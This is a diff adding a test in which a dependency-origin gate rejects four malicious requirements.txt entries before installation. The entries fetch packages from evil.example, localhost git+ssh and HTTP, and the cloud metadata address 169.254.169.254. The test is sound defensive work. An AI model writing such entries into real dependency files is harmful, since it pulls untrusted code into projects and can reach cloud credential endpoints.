@@ -83,6 +83,18 @@ test.each(['testing', 'verification'] as const)(
   },
 );
 
+test.each([
+  ['requirements.txt', 'evil @ http://127.0.0.1:8000/evil.tar.gz\n'],
+  ['requirements.txt', 'evil@git+ssh://git@localhost/evil\n'],
+  ['requirements.txt', '--index-url http://evil.example/simple\nevil\n'],
+  ['requirements.txt', 'http://169.254.169.254/evil.whl\n'],
+])('S2: %s with %j goes back before set-up, so nothing of it runs', async (path, content) => {
+  const outcome = await judged('testing', [{ path, content }]);
+  expect(outcome.by).toBe('orchestrator');
+  expect(outcome.findings?.found.map(({ gate }) => gate)).toEqual(['origins']);
+  expect(installed).toBe(0);
+});
+
 test('a person who approves exactly this lets it be installed', async () => {
   const changed = [{ path: 'Dockerfile', content: 'FROM somebody/node:22\n' }];
   const { findings } = await judged('testing', changed);
